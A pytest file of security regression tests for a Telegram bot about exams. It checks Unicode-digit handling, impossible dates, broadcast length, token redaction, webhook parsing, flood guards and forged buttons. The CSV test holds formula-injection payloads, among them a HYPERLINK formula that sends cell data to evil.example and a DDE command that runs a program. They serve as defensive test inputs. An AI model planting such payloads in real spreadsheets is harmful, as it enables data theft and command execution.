"""Regression tests for the findings of ../shared/reviews/security.md (round 2) that are not
process-level (those are in test_operations.py: H2, H3). Each test failed before its fix."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import logging
import re
from collections import Counter

import pytest
from telegram_fakes import ALICE, BOB, GROUP_CHAT, TOKEN, BotUnderTest, Person

from bot.core import Assistant
from bot.exams import specialist as exam_specialist
from bot.kb.exams.model import ExamCalendar
from bot.settings import PROJECT_ROOT
from bot.storage import DataFileError, Storage
from tests.support import TODAY, copy_real_kb, full_assistant, kb_check_in_its_own_process
from tests.support.staff import STAFF, StaffFakeApi

APOLOGY = "出了点问题"


def seen(shown) -> str:
    return "\n".join(str(s) for s in shown)


@pytest.fixture(scope="module")
def assistant(real_brain) -> Assistant:
    return full_assistant(real_brain)


@pytest.fixture
async def bot(assistant, tmp_path):
    running = BotUnderTest(tmp_path / "data", assistant, admin_ids=frozenset({STAFF.id}))
    running.api = StaffFakeApi()
    await running.start()
    yield running
    await running.stop()


async def with_profile(bot, person=ALICE, region="浙江"):
    user = bot.user(person)
    await user.says("/start")
    await user.presses("毕业生")
    await user.presses(region)
    return user


# ---- M1: Unicode digits that are not decimal --------------------------------------------------------------
@pytest.mark.parametrize("text", ["/exams ①", "/exams ²", "/exams ³ 建造", "/exams ١٢", "/exams 99999999999999999999"])
async def test_m1_typed_non_decimal_digits_in_a_command_get_an_answer_not_the_apology(bot, text):
    shown = await bot.user().says(text)  # a handler error would raise here
    assert shown and APOLOGY not in seen(shown)


@pytest.mark.parametrize(
    "data",
    [
        "x:ls:*:²",
        "x:ls:*:①",
        "x:sub:plan-²",
        "x:sub:plan-①①①①",
        "fb:+-:gt-basic-conditions",
        "fb:-+:gt-basic-conditions",
    ],
)
async def test_m1_forged_buttons_with_odd_digits_get_the_expired_notice(bot, data):
    shown = await bot.user().presses_data(data)
    assert shown and APOLOGY not in seen(shown)
    assert bot.storage.feedback(ALICE.id) == []


async def test_m1_a_superscript_choice_in_an_open_dialog_is_an_expired_button(bot):
    user = bot.user()
    await user.says("/title")
    shown = await user.presses_data("dlg:c:title:level:²")
    assert shown and APOLOGY not in seen(shown)


async def test_m1_staff_stats_with_a_superscript_answers_once(bot):
    shown = await bot.user(STAFF).says("/stats ²")
    assert APOLOGY not in seen(shown) and "没有 /stats" not in seen(shown)
    assert any("最近 30 天" in s.text for s in shown)


# ---- M2: impossible exam dates ------------------------------------------------------------------------
@pytest.mark.parametrize("where", ["days", "registration.start"])
def test_m2_an_impossible_exam_date_is_a_file_line_error_not_a_traceback(tmp_path, where):
    knowledge = copy_real_kb(tmp_path)
    path = knowledge / "exams" / "2026.yaml"
    text = path.read_text(encoding="utf-8")
    if where == "days":
        text = text.replace('days: ["2026-04-11"', 'days: ["2026-02-30"', 1)
        bad = "2026-02-30"
    else:
        text = text.replace('start: "2026-02-26"', 'start: "2026-13-01"', 1)
        bad = "2026-13-01"
    assert bad in text
    path.write_text(text, encoding="utf-8")
    output = kb_check_in_its_own_process(knowledge)
    assert "Traceback" not in output, output[-2000:]
    line = re.search(r"exams/2026\.yaml:(\d+): .*is not a real calendar date", output)
    assert line, output[-2000:]
    assert bad in text.splitlines()[int(line.group(1)) - 1]


# ---- M5: CSV formula injection ---------------------------------------------------------------------------
def test_m5_gaps_csv_cells_that_look_like_formulas_are_quoted_as_text():
    from bot.staff.gaps import GapGroup, gaps_csv

    hostile = [
        '=HYPERLINK("http://evil.example/?q="&A1,"点此")',
        "+cmd|' /C calc'!A0 见习",
        "@SUM(1+1)*cmd",
        "-2+3",
        "\t=1",
        "＝1+1",
    ]
    groups = [
        GapGroup(
            example=text,
            count=1,
            wordings=Counter({text: 1, "=also": 1}),
            outcomes=Counter({"declined": 1}),
            last_seen="2026-11-21",
            closest_entry="=x",
            closest_title="+y",
            closest_score=0.1,
        )
        for text in hostile
    ]
    rows = list(csv.reader(io.StringIO(gaps_csv(groups).lstrip("\ufeff"))))[1:]
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝")), row


# ---- M6: a broadcast too long for one message ------------------------------------------------------------------
async def test_m6_a_broadcast_too_long_for_telegram_is_refused_at_preview_with_the_limit(bot):
    shown = await bot.user(STAFF).says("/broadcast 地区=江西 " + "政" * 4079)
    text = seen(shown)
    assert "太长" in text and "最多" in text and "✅ 确认发送" not in text
    shown = await bot.user(STAFF).says("/broadcast 地区=江西 " + "政" * 4000)
    assert "✅ 确认发送" in seen(shown)  # the longest allowed still previews (and sends: see below)


async def test_m6_the_longest_allowed_broadcast_is_delivered(bot):
    from telegram_fakes import visible_text

    from bot.kb.vocabulary import ProfileWords
    from bot.tg.broadcast import notice_html, parse_broadcast
    from bot.tg.delivery import telegram_length

    _, text = parse_broadcast("政" * 4000, ProfileWords())
    assert telegram_length(visible_text(notice_html(text), "HTML")) <= 4096


# ---- M7: the pseudonym salt -----------------------------------------------------------------------------------
def test_m7_a_missing_salt_with_question_log_rows_stops_start_up_naming_the_file(tmp_path):
    storage = Storage(tmp_path)
    storage.log_question(9205, "见习补贴有多少", "answered")
    storage.close()
    (tmp_path / "qualbot.json").unlink()
    with pytest.raises(DataFileError, match=r"qualbot\.json: is missing the pseudonym salt"):
        Storage(tmp_path)
    assert not (tmp_path / "qualbot.json").exists()  # nothing was invented in its place


def test_m7_a_fresh_data_directory_still_gets_a_salt(tmp_path):
    Storage(tmp_path).close()
    assert "salt" in (tmp_path / "qualbot.json").read_text(encoding="utf-8")


# ---- L1: notices to users who blocked the bot -------------------------------------------------------------
async def test_l1_a_change_notice_to_a_blocked_user_marks_them_and_is_not_retried(real_kb, tmp_path, caplog):
    from telegram.error import Forbidden

    from bot.exams.reminders import diff_calendars
    from bot.tg.reminders import ReminderScheduler
    from tests.test_exams_reminders import offline_application

    storage = Storage(tmp_path)
    storage.save_profile(6005, role="graduate", region="浙江")
    storage.add_subscription(6005, "plan-2027")
    attempts = []

    async def blocked(user_id, reply):
        attempts.append(user_id)
        raise Forbidden("Forbidden: bot was blocked by the user")

    calendar: ExamCalendar = real_kb.exams
    scheduler = ReminderScheduler(offline_application().job_queue, storage, lambda: calendar, send=blocked)
    new = ExamCalendar(calendar.exams, {**calendar.plans, 2027: dataclasses.replace(calendar.plans[2026], year=2027)})
    with caplog.at_level(logging.INFO):
        assert await scheduler.notify_changes(diff_calendars(calendar, new)) == 0
        await scheduler.notify_changes(diff_calendars(calendar, new))
    assert attempts == [6005]  # tried once, not at every later reload
    assert storage.profile(6005)["blocked"] is True
    assert not [r for r in caplog.records if r.exc_info]  # a blocked user is not a traceback


# ---- L2: the token in tracebacks --------------------------------------------------------------------------------
def test_l2_the_token_is_redacted_from_tracebacks_too():
    from bot.tg.app import _RedactToken

    handler_output = io.StringIO()
    handler = logging.StreamHandler(handler_output)
    handler.addFilter(_RedactToken(TOKEN))
    logger = logging.getLogger("qualbot.test.redact")
    logger.addHandler(handler)
    logger.propagate = False
    try:
        raise RuntimeError(f"<html><body>Bad Gateway for /bot{TOKEN}/sendMessage</body></html>")
    except RuntimeError:
        logger.exception("sending failed")
    finally:
        logger.removeHandler(handler)
    text = handler_output.getvalue()
    assert "Bad Gateway" in text and "<token>" in text
    assert TOKEN not in text and TOKEN.split(":")[1] not in text


# ---- L3: an update PTB cannot parse, through the webhook -------------------------------------------------------
async def test_l3_an_unparsable_webhook_update_is_logged_without_its_content(tmp_path, mini_kb_dir, caplog):
    import httpx
    from telegram.ext import Updater
    from test_hardening_security import WebhookApi, free_port, no_dialogs

    from bot.settings import Settings
    from bot.tg import webhook
    from bot.tg.app import build_application

    webhook.install()
    settings = Settings(
        token=TOKEN,
        data_dir=tmp_path / "data",
        knowledge_dir=mini_kb_dir,
        today=TODAY,
        dialogs_dir=no_dialogs(tmp_path),
    )
    app = build_application(settings, request=WebhookApi())
    updater = Updater(app.bot, app.update_queue)
    port = free_port()
    await app.initialize()
    await updater.initialize()
    await updater.start_webhook(listen="127.0.0.1", port=port, url_path="hook", secret_token="s3cret")
    try:
        async with httpx.AsyncClient() as client:
            with caplog.at_level(logging.DEBUG):
                answer = await client.post(
                    f"http://127.0.0.1:{port}/hook",
                    headers={"X-Telegram-Bot-Api-Secret-Token": "s3cret"},
                    json={"update_id": "abc", "message": {"text": "PIItext-in-bad-update"}},
                )
                not_json = await client.post(
                    f"http://127.0.0.1:{port}/hook",
                    content=b"\xff{",
                    headers={"X-Telegram-Bot-Api-Secret-Token": "s3cret", "Content-Type": "application/json"},
                )
    finally:
        await updater.stop()
        await updater.shutdown()
        await app.shutdown()
    assert answer.status_code == 400 and not_json.status_code == 400
    assert "PIItext" not in caplog.text
    assert "could not be parsed" in caplog.text


# ---- L4: opt-in buttons and the flood guard ----------------------------------------------------------------
async def test_l4_the_opt_in_buttons_are_flood_guarded_like_everything_else(assistant, tmp_path):
    running = await BotUnderTest(tmp_path / "data", assistant).start()
    try:
        await with_profile(running)
        running.seconds_between_updates = 0.01
        writes = 0
        for i in range(40):
            shown = await running.user().presses_data("updates:on" if i % 2 else "updates:off")
            writes += any(s.kind == "toast" and "已保存" in s.text for s in shown)
        assert writes <= 13
        assert any("太快" in s.text for s in running.api.shown)
    finally:
        await running.stop()


# ---- L5: rows a user can create ----------------------------------------------------------------------------------
async def test_l5_forged_plan_subscriptions_for_absurd_years_are_refused(bot):
    user = bot.user()
    for data in ("x:sub:plan-" + str(10**40), "x:sub:plan-99999", "x:sub:plan-1999", "x:sub:plan-2200"):
        shown = await user.presses_data(data)
        assert "已订阅" not in seen(shown)
    assert bot.storage.subscriptions(ALICE.id) == []
    assert "已订阅" in seen(await user.presses_data("x:sub:plan-2027"))


async def test_l5_one_user_can_hold_only_so_many_subscriptions(bot, assistant):
    user = bot.user()
    exam_ids = sorted({e.id for e in assistant.kb.exams.exams})
    plan_ids = [f"plan-{year}" for year in range(2025, 2037)]
    for exam_id in [*exam_ids, *plan_ids]:
        await user.presses_data(f"x:sub:{exam_id}")
    assert len(bot.storage.subscriptions(ALICE.id)) <= getattr(exam_specialist, "MAX_SUBSCRIPTIONS", 60)
    shown = await user.presses_data("x:subs")
    assert sum(len(row) for s in shown for row in s.buttons) <= 100  # Telegram's keyboard limit


# ---- L6: data files of the wrong shape ---------------------------------------------------------------------------
@pytest.mark.parametrize(
    "content",
    [
        {"profiles": []},
        {"profiles": {"9205": "not-a-dict"}},
        {"profiles": {"abc": {"user_id": 9205}}},
        {"profiles": {"9205": {"user_id": "x"}}},
    ],
)
def test_l6_a_data_file_of_the_wrong_shape_stops_start_up_naming_it(tmp_path, content):
    Storage(tmp_path).close()
    shard = tmp_path / "users" / "21.json"
    shard.write_text(json.dumps(content), encoding="utf-8")
    with pytest.raises(DataFileError, match=re.escape(str(shard))):
        Storage(tmp_path)


# ---- L7: profile buttons in a group ----------------------------------------------------------------------------
async def test_l7_profile_buttons_in_a_group_do_not_save_or_post_anyones_profile(bot):
    group_alice, group_bob = bot.user(ALICE, GROUP_CHAT), bot.user(BOB, GROUP_CHAT)
    shown = await group_alice.says("/start")
    assert not any(
        b.startswith("profile:role") for s in shown for row in s.buttons for b in [x["callback_data"] for x in row]
    )
    message = group_alice.last_bot_message()
    for data in ("profile:role:employer", "profile:region:江西", "profile:edit"):
        shown = await group_bob.presses_data(data, message)
        assert not [s for s in shown if s.kind in ("edit", "message")], seen(shown)
    assert bot.storage.profile(BOB.id) is None


# ---- L8: a dialog-only reload ---------------------------------------------------------------------------------
async def test_l8_a_reload_after_a_dialog_only_edit_says_the_dialogs_changed(tmp_path, mini_kb_dir):
    from tests.support.staff import start_bot

    running = await start_bot(tmp_path, mini_kb_dir)
    try:
        dialog = tmp_path / "dialogs" / "mini.yaml"
        text = dialog.read_text(encoding="utf-8")
        question = re.search(r"ask: (.+)", text).group(1)
        dialog.write_text(
            text.replace(question, question.rstrip('"') + "（改）" + ('"' if question.endswith('"') else ""), 1),
            encoding="utf-8",
        )
        from bot.tg.staff import staff_tools_of

        tools = staff_tools_of(running.application)
        result = await tools.run_reload()
    finally:
        await running.stop()
    assert result.ok, result.errors
    assert "内容没有变化。" not in result.summary
    assert any("引导对话" in line and "mini.yaml" in line for line in result.summary), result.summary


# ---- L9: one ExecReload ---------------------------------------------------------------------------------------
def test_l9_the_systemd_unit_reloads_once_and_limits_restarts():
    unit = (PROJECT_ROOT / "deploy" / "qualbot.service").read_text(encoding="utf-8")
    lines = [line.strip() for line in unit.splitlines() if line.strip() and not line.lstrip().startswith("#")]
    assert sum(line.startswith("ExecReload=") for line in lines) == 1
    assert any(line.startswith("StartLimitBurst=") for line in lines)
    assert any(line.startswith("StartLimitIntervalSec=") for line in lines)


# ---- L11: every kind of private message gets an answer ------------------------------------------------------------
@pytest.mark.parametrize(
    "extra",
    [
        {"dice": {"emoji": "🎲", "value": 3}},
        {
            "poll": {
                "id": "p1",
                "question": "?",
                "options": [{"text": "a", "voter_count": 0, "persistent_id": "o1"}],
                "total_voter_count": 0,
                "is_closed": False,
                "is_anonymous": True,
                "type": "regular",
                "allows_multiple_answers": False,
                "allows_revoting": False,
                "members_only": False,
            }
        },
        {"story": {"chat": {"id": 5, "type": "private"}, "id": 1}},
        {
            "game": {
                "title": "g",
                "description": "d",
                "photo": [{"file_id": "p", "file_unique_id": "pu", "width": 1, "height": 1}],
            }
        },
    ],
    ids=["dice", "poll", "story", "game"],
)
async def test_l11_other_message_kinds_in_private_get_the_please_type_notice(bot, extra):
    user = bot.user(Person(1010, "小赵"))
    shown = await user.receives({"message": user.new_message(extra)})
    assert shown and "文字" in shown[0].text


# ---- bounds where input enters ------------------------------------------------------------------------------
async def test_over_long_callback_data_command_and_text_are_bounded(bot, monkeypatch):
    asked = []
    original = bot.assistant.ask
    monkeypatch.setattr(bot.assistant, "ask", lambda text, *a, **k: asked.append(text) or original(text, *a, **k))
    user = bot.user()
    shown = await user.presses_data("e:" + "x" * 300)
    assert shown and APOLOGY not in seen(shown)
    shown = await user.says("/" + "a" * 5000 + " " + "b" * 5000)
    assert shown and all(len(s.text) <= 4096 for s in shown)
    await user.says("见" * 20000)
    assert asked and len(asked[-1]) <= 4096


def test_dates_are_checked_for_rows_dialogs_and_settings_alike():
    """(a guard against new date parsing: every loader reports impossible dates, none raises)"""
    from bot.kb.exams.loader import _real_date

    class Errors:
        def __init__(self):
            self.added = []

        def add(self, where, message):
            self.added.append(message)

    errors = Errors()
    assert _real_date("2026-02-28", (), errors) == dt.date(2026, 2, 28)
    with pytest.raises(ValueError):
        _real_date("2026-02-30", (), errors)
    assert errors.added == ["'2026-02-30' is not a real calendar date (YYYY-MM-DD)"]


def test_settings_every_variable_is_documented():
    from bot.settings import SETTINGS

    readme = (PROJECT_ROOT / "README.md").read_text(encoding="utf-8")
    example = (PROJECT_ROOT / "deploy" / ".env.example").read_text(encoding="utf-8")
    for name in SETTINGS:
        assert name in readme, f"{name} is not in README.md"
        assert name in example, f"{name} is not in deploy/.env.example"
    used = set(re.findall(r'"((?:QUALBOT|TELEGRAM)_[A-Z_]+)"', (PROJECT_ROOT / "bot" / "settings.py").read_text()))
    assert used <= set(SETTINGS) | {"QUALBOT_"}, used - set(SETTINGS)


def test_no_unlisted_environment_variables_are_read_elsewhere():
    names = set()
    for path in (PROJECT_ROOT / "bot").rglob("*.py"):
        names |= set(re.findall(r'environ(?:\.get)?\(?\[?"((?:QUALBOT|TELEGRAM)_[A-Z_]+)"', path.read_text()))
    from bot.settings import SETTINGS

    assert names <= set(SETTINGS), names - set(SETTINGS)
